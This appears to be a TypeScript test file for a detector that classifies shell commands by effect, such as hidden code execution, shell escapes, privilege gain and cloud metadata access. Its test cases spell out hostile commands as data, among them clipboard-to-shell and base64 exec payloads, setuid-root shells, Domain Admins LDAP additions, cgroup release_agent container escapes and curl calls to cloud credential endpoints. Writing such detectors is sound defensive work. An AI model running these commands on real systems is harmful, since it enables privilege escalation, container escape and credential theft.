import { describe, expect, it } from 'vitest';
import { summarise } from '../../src/effects/summarise.ts';
import { scanned } from '../shell/scanned.ts';

function deeds(command: string): readonly (string | undefined)[] {
  return summarise(scanned(command), { home: '/home/user', workspace: '/workspace' }).effects.map(
    ({ deed }) => deed,
  );
}

function hosts(command: string): readonly string[] {
  return summarise(scanned(command), { home: '/home/user', workspace: '/workspace' }).effects.flatMap(one =>
    one.on === 'host' ? [one.host] : [],
  );
}

describe('code that nobody sees before it runs', () => {
  it.each([
    ['$(pbpaste)'],
    ['pbpaste | sh'],
    ['bash -c "$(xclip -o)"'],
    ['eval "$(wl-paste)"'],
    ['echo "exec(base64.b64decode(\'aW1w\'))" | python3'],
    ['python3 <<< "import base64;exec(base64.b64decode(\'aW1w\').decode())"'],
    ['osascript -e \'do shell script "echo exec(base64.b64decode(x)) | python"\''],
    [
      'osascript -l JavaScript -e \'eval(ObjC.unwrap($.NSString.stringWithContentsOfURL($.NSURL.URLWithString("https://x.test"))))\'',
    ],
  ])('is seen in %s', command => {
    expect(deeds(command)).toContain('computed');
  });

  it.each([
    ['pbpaste | jq .'],
    ['pbpaste > notes.sh'],
    ['echo ls | pbcopy'],
    ['echo "import base64;print(base64.b64decode(\'aW1w\'))" | python3'],
    ['osascript -e \'display notification "done"\''],
  ])('is not seen in %s', command => {
    expect(deeds(command)).not.toContain('computed');
  });
});

describe('an interpreter that is looked for first', () => {
  it.each([
    ['P=$(which python3); $P -c "import pty;pty.spawn(\'/bin/sh\')"'],
    [
      'P=$(which python || which python3 || which python3.9 || which python2); $P -c "import pty;pty.spawn(\'/bin/sh\')"',
    ],
    ['$(command -v python || command -v python3) -c "import pty;pty.spawn(\'/bin/sh\')"'],
  ])('runs its code in %s', command => {
    expect(deeds(command)).toContain('shell-escape');
  });
});

const POWER = /^(?:root-shell|host-namespace|privileged-group|set-user-id|login-password)$/;

describe('power that is kept or taken', () => {
  it.each([
    ['/tmp/rootbash -p', 'root-shell'],
    ['./sh -p', 'root-shell'],
    ['python3 -c \'import os; os.setuid(0); os.system("/bin/sh")\'', 'root-shell'],
    ['perl -e \'use POSIX qw(setuid); POSIX::setuid(0); exec "/bin/sh";\'', 'root-shell'],
    ['systemd-run -S', 'root-shell'],
    [
      'echo "dn: CN=x\\nmemberOf: CN=Domain Admins,DC=x" > t.ldif; ldapadd -H ldap://x.test -f t.ldif',
      'privileged-group',
    ],
    [
      'ldapmodify <<E\ndn: CN=Enterprise Admins,DC=x\nchangetype: modify\nadd: member\nmember: CN=eve\nE',
      'privileged-group',
    ],
    ['chmod g+xs /tmp/tool', 'set-user-id'],
    ['printf "a\\na\\n" | passwd', 'login-password'],
    ['machinectl shell', 'root-shell'],
    ['echo /x > /tmp/cgrp/release_agent', 'host-namespace'],
    ['echo /x | tee /sys/kernel/uevent_helper', 'host-namespace'],
  ])('is told of %s', (command, deed) => {
    expect(deeds(command)).toContain(deed);
  });

  it.each([
    ['chmod g+s shared'],
    ['chmod g+rwxs shared'],
    ['passwd'],
    ['ldapadd -H ldap://x.test -f people.ldif'],
    ['./deploy.sh -p'],
    ['/bin/bash -p script.sh'],
    ['systemd-run --user -t bash'],
    ['systemd-run --uid=1000 -t bash'],
    ['machinectl shell web'],
    ["python3 -c 'import os; os.setuid(1000); print(1)'"],
  ])('is not told of %s', command => {
    expect(deeds(command).filter(one => POWER.test(one ?? ''))).toEqual([]);
  });
});

describe('the metadata service of a cloud', () => {
  it.each([
    ['curl "http://169.254.170.2$AWS_CONTAINER_CREDENTIALS_RELATIVE_URI"'],
    ['curl http://[fd00:ec2::254]/latest/meta-data/'],
    ['curl http://instance-data/latest/meta-data/'],
  ])('is what %s asks', command => {
    expect(hosts(command)).toContain('metadata');
  });

  it.each([['curl "http://169.254.1.1$X"'], ['curl "http://10.0.0.1$X"']])('is not what %s asks', command => {
    expect(hosts(command)).not.toContain('metadata');
  });
});
